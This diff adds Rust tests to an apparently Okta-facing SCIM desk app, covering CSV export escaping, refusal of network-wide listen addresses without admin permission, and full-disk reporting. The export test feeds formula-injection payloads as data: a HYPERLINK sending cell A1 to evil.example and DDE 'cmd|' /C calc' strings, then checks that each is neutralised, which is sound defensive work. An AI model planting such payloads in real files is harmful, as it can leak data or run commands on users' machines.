@@ -235,6 +235,47 @@ async fn export_writes_every_matching_employee_as_csv() {
     );
 }
 
+/// A title or a name Okta sends is whatever someone typed into the HR system: in the export,
+/// cells a spreadsheet would run as a formula start with `'`, and every other cell is exact.
+#[tokio::test]
+async fn export_writes_cells_a_spreadsheet_would_run_as_text() {
+    let (desk, dir) = desk().await;
+    let mut body = user(1, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
+    body["name"] = json!({"givenName": "+1+cmd|' /C calc'!A0", "familyName": "-2+3"});
+    body["urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"] = json!({
+        "department": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "division": "\t=1+1",
+        "employeeNumber": "\r=2",
+    });
+    body["addresses"] = json!([{"type": "work", "locality": "Saint-Étienne = home"}]);
+    desk.directory().create_user(&ctx("c"), body).await.unwrap();
+    let path = dir.path().join("employees.csv");
+    desk.export_employees(&query(StatusChoice::All, 50), &path)
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_path(&path).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| {
+        let i = headers.iter().position(|h| h == name).unwrap();
+        row[i].to_owned()
+    };
+    assert_eq!(cell("First name"), "'+1+cmd|' /C calc'!A0");
+    assert_eq!(cell("Last name"), "'-2+3");
+    assert_eq!(
+        cell("Job title"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(cell("Department"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    // Trimmed by the mapping, so the tab and CR are gone, and what starts the cell is `=`.
+    assert_eq!(cell("Business unit"), "'=1+1");
+    assert_eq!(cell("Employee ID"), "'=2");
+    // Untouched: a value with `=` later on, and everything else.
+    assert_eq!(cell("Location"), "Saint-Étienne = home");
+    assert_eq!(cell("Email"), "person001@corp.example");
+    assert_eq!(cell("Status"), "active");
+}
+
 #[tokio::test]
 async fn connections_views_carry_base_urls_and_last_contact_and_refuse_bad_names() {
     let (desk, _dir) = desk().await;
@@ -465,6 +506,142 @@ async fn the_endpoint_reports_a_taken_port_and_moves_to_another() {
             .is_err()
     );
     drop(squatter);
+}
+
+/// The app's endpoint serves an address other machines reach only with the admin's permission:
+/// one stored without it (by hand, or before the rule) is a failure to show with the way out, and
+/// the port picker, which keeps the address, moves it only where it was allowed.
+#[tokio::test]
+async fn the_endpoint_refuses_an_address_other_machines_reach_unless_allowed() {
+    let (desk, _dir) = desk().await;
+    desk.db()
+        .write(|c| {
+            c.execute(
+                "INSERT INTO settings (key, value) VALUES ('listen', '0.0.0.0:0')",
+                [],
+            )
+            .map(|_| ())
+            .map_err(|e| sqlx::Error::Protocol(e.to_string()))
+        })
+        .await
+        .unwrap();
+    let endpoint = Endpoint::new(desk.clone());
+    match endpoint.start().await {
+        EndpointStatus::Failed { listen, message } => {
+            assert_eq!(listen, "0.0.0.0:0");
+            assert!(message.contains("--allow-remote"), "{message}");
+        }
+        other => panic!("expected failed, got {other:?}"),
+    }
+    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = free.local_addr().unwrap().port();
+    drop(free);
+    let refused = endpoint.change_port(u32::from(port)).await.unwrap_err();
+    assert!(refused.to_string().contains("--allow-remote"), "{refused}");
+    let app_error: scimdesk::views::AppError = refused.into();
+    assert_eq!(app_error.field.as_deref(), Some("port"));
+    assert_eq!(desk.config().await.unwrap().listen.to_string(), "0.0.0.0:0");
+    // Typed into the app (or `config set listen` without --allow-remote): refused too.
+    assert!(desk.set_config("listen", "0.0.0.0:9999").await.is_err());
+
+    // Allowed by the admin, it serves there, and a new port keeps the permission.
+    desk.set_listen("0.0.0.0:0", true).await.unwrap();
+    assert!(matches!(
+        endpoint.start().await,
+        EndpointStatus::Serving { .. }
+    ));
+    let status = endpoint.change_port(u32::from(port)).await.unwrap();
+    assert_eq!(
+        status,
+        EndpointStatus::Serving {
+            listen: format!("0.0.0.0:{port}")
+        }
+    );
+    let config = desk.config().await.unwrap();
+    assert!(config.allow_remote, "{config:?}");
+    endpoint.stop().await;
+}
+
+/// Sets the writer's `max_page_count`: SQLite then answers a write that needs a page beyond it
+/// with SQLITE_FULL, as it does when the disk is full (the black-box test fills a real one).
+async fn cap_pages(desk: &Desk, pages: u32) {
+    desk.db()
+        .write(move |c| {
+            c.execute_batch(&format!("PRAGMA max_page_count = {pages}"))
+                .map_err(|e| sqlx::Error::Protocol(e.to_string()))
+        })
+        .await
+        .unwrap();
+}
+
+/// When a write finds the disk full, Okta gets a 503 that says so, and the app's overview says
+/// so (free space, data directory) with a `disk` change event, until a write succeeds again.
+#[tokio::test]
+async fn a_full_disk_shows_in_the_overview_until_writes_succeed_again() {
+    use scimdesk::desk::ChangeEvent;
+    let (desk, dir) = desk().await;
+    let mut events = desk.subscribe();
+    let endpoint = EndpointStatus::Starting {
+        listen: String::new(),
+    };
+    assert_eq!(
+        desk.overview(endpoint.clone()).await.unwrap().disk_full,
+        None
+    );
+    // The smallest cap SQLite allows: the pages the database has now.
+    cap_pages(&desk, 1).await;
+    let mut refused = None;
+    for i in 0..2_000 {
+        if let Err(e) = desk
+            .directory()
+            .create_user(&ctx("c"), user(i, "Engineer"))
+            .await
+        {
+            refused = Some(e);
+            break;
+        }
+    }
+    let refused = refused.expect("a write ran out of pages");
+    assert_eq!(refused.status, 503, "{refused:?}");
+    assert!(refused.detail.contains("disk") && refused.detail.contains("full"));
+    let full = desk
+        .overview(endpoint.clone())
+        .await
+        .unwrap()
+        .disk_full
+        .expect("the overview says the disk is full");
+    assert_eq!(full.data_dir, dir.path().display().to_string());
+    assert!(full.free_bytes.is_some(), "{full:?}");
+    let told = tokio::time::timeout(std::time::Duration::from_secs(30), async {
+        loop {
+            match events.recv().await {
+                Ok(ChangeEvent::Disk) => return,
+                Err(tokio::sync::broadcast::error::RecvError::Closed) => panic!("no more events"),
+                _ => {}
+            }
+        }
+    })
+    .await;
+    assert!(told.is_ok(), "no `disk` change event");
+
+    // Room again: the next write goes through, and the banner's state is gone.
+    cap_pages(&desk, 1_000_000).await;
+    desk.directory()
+        .create_user(&ctx("c"), user(9_999, "Engineer"))
+        .await
+        .unwrap();
+    assert_eq!(desk.overview(endpoint).await.unwrap().disk_full, None);
+    let told = tokio::time::timeout(std::time::Duration::from_secs(30), async {
+        loop {
+            match events.recv().await {
+                Ok(ChangeEvent::Disk) => return,
+                Err(tokio::sync::broadcast::error::RecvError::Closed) => panic!("no more events"),
+                _ => {}
+            }
+        }
+    })
+    .await;
+    assert!(told.is_ok(), "no `disk` change event when writes resumed");
 }
 
 /// A change made by another process (here a second `Desk` on the same directory, as a
